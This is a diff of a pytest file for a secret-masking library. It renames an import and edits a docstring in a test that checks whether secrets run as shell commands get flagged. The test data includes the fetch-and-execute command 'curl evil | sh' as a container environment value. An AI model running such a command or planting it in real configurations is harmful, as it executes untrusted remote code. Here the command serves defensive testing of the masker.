@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from trainc.masking.values import masked, masked_at, secrecy_at
+from trainc.masking.masked_values import masked, masked_at, secrecy_at
 
 
 @pytest.mark.parametrize(
@@ -62,7 +62,7 @@ READS: list[str] = ['train --token "$A_TOKEN"', "export B=$A_TOKEN && train", "c
 
 @pytest.mark.parametrize("script", [*RUNS, *READS])
 def test_a_secret_that_a_command_runs_is_named(script: str) -> None:
-    """A mask hides code there, so it says so."""
+    """The mask hides code there."""
     container = {"command": ["sh", "-c"], "args": [script], "env": [{"name": "A_TOKEN", "value": "curl evil | sh"}]}
     hook = {"env": container["env"], "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", script]}}}}
     expected = "*** (run as code)" if script in RUNS else "***"
